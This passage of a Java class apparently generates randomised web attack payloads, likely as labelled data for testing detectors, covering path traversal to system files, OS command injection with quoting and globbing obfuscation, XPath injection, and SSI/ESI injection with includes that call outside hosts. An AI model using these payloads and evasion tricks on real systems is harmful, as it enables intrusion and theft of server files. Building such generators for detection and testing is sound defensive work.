            + " or " + q, "x" + q + "]/../" + expand(one(r, xpathAxes), r).replaceFirst("^/+", "") + "[" + q + "1"});
    }
    if (r.nextInt(6) == 0) {
      p = Evasions.respace(p, r.nextBoolean() ? "\t" : "  ");
    }
    return new Payload(family, p);
  }

  // ---- path traversal ----

  private Payload traversal(SplittableRandom r) {
    String family = one(r, TRAVERSAL_FAMILIES);
    String target = expand(one(r, traversalDirectories), r) + "/" + one(r, traversalFiles);
    int depth = r.nextInt(1, 12);
    String p;
    switch (family) {
      case "dot-dot":
        p = prefix(r) + "../".repeat(depth) + target;
        break;
      case "encoded": {
        String step = one(r, traversalEncodedSteps);
        String t = r.nextInt(3) == 0 ? target.replace("/", step.contains("5c") ? "%5c" : "%2f") : target;
        p = prefix(r) + step.repeat(depth) + t;
        break;
      }
      case "backslash": {
        String step = one(r, new String[] {"..\\", "..\\\\", "..%5c", "..\\/", ".\\..\\"});
        p = (r.nextInt(4) == 0 ? one(r, new String[] {"C:\\", "c:/", "D:\\", "\\\\" + host(r) + "\\share\\"}) : prefix(r)
            .replace('/', '\\') + step.repeat(depth)) + (r.nextBoolean() ? one(r, windowsFiles) : target.replace('/',
            '\\'));
        break;
      }
      case "absolute":
        p = one(r, new String[] {"/" + target, "file:///" + target, "/@fs/" + target, "//" + target, "/./" + target,
            "file://localhost/" + target, "C:/" + one(r, windowsFiles).replace('\\', '/'), "/" + target + "/.",
            "/%2f" + target});
        break;
      case "bypass":
        p = prefix(r) + one(r, traversalBypassSteps).repeat(depth) + target;
        break;
      default:
        p = expand(one(r, traversalWrappers).replace("{T}", (r.nextBoolean() ? "/" + target : one(r, new String[] {
            "index.php", "config.php", "../config.inc", "admin/db.php", "/var/www/html/.env"}))), r);
    }
    p += one(r, traversalSuffixes);
    if (r.nextInt(10) == 0) {
      p = Evasions.mixCase(p, r);
    }
    return new Payload(family, p);
  }

  private String prefix(SplittableRandom r) {
    return r.nextInt(3) > 0 ? "" : one(r, new String[] {word(r) + "/", "static/", "images/", "/var/www/html/",
        "templates/", "uploads/", "./", "docs/", "/", "assets/", "..%00/"});
  }

  // ---- OS command injection ----

  private Payload command(SplittableRandom r) {
    String family = one(r, COMMAND_FAMILIES);
    boolean windows = family.equals("windows");
    String command = windows ? expand(one(r, windowsCommands), r) : obfuscateCommand(expand(one(r, unixCommands), r), r);
    String lead = r.nextInt(3) == 0 ? "" : r.nextBoolean() ? value(r) : r.nextInt(1, 256) + "." + r.nextInt(256) + "."
        + r.nextInt(256) + "." + r.nextInt(256);
    String p;
    switch (family) {
      case "sequence":
        p = lead + one(r, new String[] {";", "; ", "\n", "%0a", "\r\n", ";;", "%0d%0a"}) + command
            + (r.nextInt(3) == 0 ? ";" : r.nextInt(3) == 0 ? " #" : "");
        break;
      case "pipe":
        p = lead + one(r, new String[] {"|", "| ", "||", " || ", " |"}) + command + (r.nextInt(4) == 0 ? " |" : "");
        break;
      case "chain":
        p = lead + one(r, new String[] {"&&", " && ", "&", " & ", "%26%26"}) + command + (r.nextInt(3) == 0 ? " &" : "");
        break;
      case "substitution":
        p = lead + (r.nextBoolean() ? "$(" + command + ")" : "`" + command + "`");
        if (r.nextInt(3) == 0) {
          p = lead + one(r, new String[] {";", "|", "&&"}) + "echo " + (r.nextBoolean() ? "$(" + command + ")"
              : "`" + command + "`");
        }
        break;
      case "bare":
        // a command alone, in a parameter a command line goes into: one with an argument or a telling name
        while (command.length() < 6) {
          command = obfuscateCommand(expand(one(r, unixCommands), r), r);
        }
        p = command;
        break;
      default:
        p = lead + one(r, new String[] {"&", "|", "&&", "||", "%0a", " & ", "\r\n"}) + (r.nextInt(3) == 0
            ? "cmd /c " : "") + (r.nextInt(4) == 0 ? Evasions.mixCase(command, r) : command);
    }
    return new Payload(family, p);
  }

  /** Shell obfuscations: quotes and backslashes inside words, globbing, $IFS and other separators, brace expansion. */
  private String obfuscateCommand(String command, SplittableRandom r) {
    int roll = r.nextInt(12);
    if (roll == 0) {
      return glob(command, r);
    }
    if (roll == 1) {
      StringBuilder out = new StringBuilder();
      for (int i = 0; i < command.length(); i++) {
        char c = command.charAt(i);
        out.append(c);
        if (Character.isLetter(c) && r.nextInt(3) == 0) {
          out.append(one(r, new String[] {"''", "\"\"", "\\", "$@", "${x}"}));
        }
      }
      return out.toString();
    }
    if (roll == 2 && command.indexOf(' ') > 0) {
      return "{" + command.replace(' ', ',') + "}";
    }
    String space = one(r, commandSpaces);
    return space.equals(" ") ? command : command.replace(" ", space);
  }

  /** Replaces letters of file names with ? or [x] classes, as in cat /etc/pa[s]swd or /???/c?t /???/p?ss??. */
  private static String glob(String command, SplittableRandom r) {
    StringBuilder out = new StringBuilder();
    boolean inPath = false;
    for (int i = 0; i < command.length(); i++) {
      char c = command.charAt(i);
      inPath = c == '/' || (inPath && c != ' ');
      if (inPath && Character.isLetter(c) && r.nextInt(3) == 0) {
        out.append(r.nextBoolean() ? "?" : "[" + c + "]");
      } else {
        out.append(c);
      }
    }
    return out.toString();
  }

  // ---- server-side includes ----

  private Payload ssi(SplittableRandom r) {
    String family = one(r, SSI_FAMILIES);
    String directive;
    switch (family) {
      case "exec":
        directive = r.nextInt(4) == 0 ? "exec cgi=\"/cgi-bin/" + word(r) + "." + one(r, new String[] {"cgi", "pl", "sh"})
            + "\"" : "exec cmd=\"" + expand(one(r, unixCommands), r).replace("\"", "'") + "\"";
        break;
      case "include":
        directive = "include " + (r.nextBoolean() ? "virtual" : "file") + "=\"" + ssiFile(r) + "\"";
        break;
      case "echo":
        directive = r.nextInt(4) == 0 ? "printenv" : "echo " + (r.nextInt(3) == 0 ? "encoding=\"none\" " : "") + "var=\""
            + one(r, ssiVariables) + "\"";
        break;
      case "config":
        directive = expand(one(r, ssiDirectives), r);
        break;
      default:
        return new Payload(family, breakerSsi(r) + one(r, new String[] {"<esi:include src=\"http://" + host(r) + "/"
            + word(r) + "\"/>", "<esi:vars>$(HTTP_COOKIE)</esi:vars>", "<esi:include src=\"/" + word(r) + "?x=$(QUERY_STRING)"
            + "\" />", "<esi:debug/>", "x<esi:assign name=\"" + word(r) + "\" value=\"$(HTTP_HOST)\"/>",
            "<esi:vars>$(HTTP_USER_AGENT{'" + word(r) + "'})</esi:vars>"}));
    }
    String open = one(r, new String[] {"<!--#", "<!--#", "<!--#", "<!-- #"});
    String close = one(r, new String[] {" -->", "-->", "  -->", "\t-->"});
    String p = breakerSsi(r) + open + directive + close;
    if (r.nextInt(6) == 0) {
      p = p.replace('"', '\'');
    }
    return new Payload(family, p);
  }

  private String breakerSsi(SplittableRandom r) {
    return r.nextInt(4) == 0 ? one(r, new String[] {"\">", "'>", word(r), "</textarea>"}) : "";
  }

  private String ssiFile(SplittableRandom r) {
    return one(r, new String[] {"/" + expand(one(r, traversalDirectories), r) + "/" + one(r, traversalFiles),
        "../".repeat(r.nextInt(1, 6)) + one(r, traversalFiles), word(r) + ".shtml", "/cgi-bin/" + word(r) + ".pl?"
        + one(r, ssiVariables), "footer.html", "." + one(r, traversalFiles)});
  }

  // ---- shared parts ----

  /** Fills {N} {H} {W} {P} {L} {B64} {F} {D} {WF} {WD} {TB} {CO} {CMD} {SF} {SV} {X} and {A} in a part. */
  private String expand(String template, SplittableRandom r) {
    if (template.indexOf('{') < 0) {
      return template;
    }
    StringBuilder out = new StringBuilder(template.length() + 32);
    int i = 0;
    while (i < template.length()) {
      char c = template.charAt(i);
      int close = c == '{' ? template.indexOf('}', i) : -1;
      String value = close > i + 1 && close - i <= 4 ? resolve(template.substring(i + 1, close), r) : null;
      if (value == null) {
        out.append(c);
        i++;
      } else {
        out.append(value);
        i = close + 1;
      }
    }
    return out.toString();
  }

  /** The value of a placeholder, or null when {@code name} is none (then the braces are payload text, as in JS). */
  private String resolve(String name, SplittableRandom r) {
    switch (name) {
      case "N":
        return Integer.toString(r.nextInt(1, 100));
      case "P":
        return Integer.toString(r.nextInt(1024, 65536));
      case "H":
        return host(r);
      case "W":
        return word(r);
      case "L":
        return letter(r);
      case "B64":
        return Bodies.random(r, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", 4 * r.nextInt(3, 12));
      case "F":
        return r.nextBoolean() ? one(r, sqlFunctions) : "/" + expand(one(r, traversalDirectories), r) + "/"
            + one(r, traversalFiles);
      case "D":
        return "/" + expand(one(r, traversalDirectories), r);
      case "WF":
        return "C:\\" + one(r, windowsFiles);
      case "WD":
        return one(r, new String[] {"C:\\", "C:\\Users", "C:\\inetpub\\wwwroot", "%TEMP%", "..\\.."});
      case "TB":
        return one(r, sqlTables);
      case "CO":
        return one(r, sqlColumns);
      case "CMD":
        return expand(one(r, unixCommands), r).replace("'", "");
      case "SF":
        return ssiFile(r);
      case "SV":
        return one(r, ssiVariables);
      case "X":
        return one(r, xpathNodes);
      case "A":
        return action(r);
      default:
        return null;
    }
  }

  /** A host name or address of the kind attackers' callbacks use. */
  static String host(SplittableRandom r) {
    if (r.nextInt(3) == 0) {
      return r.nextInt(1, 224) + "." + r.nextInt(256) + "." + r.nextInt(256) + "." + r.nextInt(256);
    }
    return (r.nextBoolean() ? word(r) : Bodies.random(r, "abcdefghijklmnopqrstuvwxyz0123456789", r.nextInt(4, 12)))
        + (r.nextBoolean() ? "." + word(r) : "") + "." + one(r, TLDS);
  }

  static String word(SplittableRandom r) {
    return WORDS[r.nextInt(WORDS.length)];
  }

  /** A value an attacked parameter held before the payload: a number or a word. */
  private static String value(SplittableRandom r) {
    return r.nextBoolean() ? Integer.toString(r.nextInt(1, 5000)) : word(r);
  }

  private static String letter(SplittableRandom r) {
    return String.valueOf((char) ('a' + r.nextInt(26)));
  }

  static String one(SplittableRandom r, String[] items) {
    return items[r.nextInt(items.length)];
  }
}
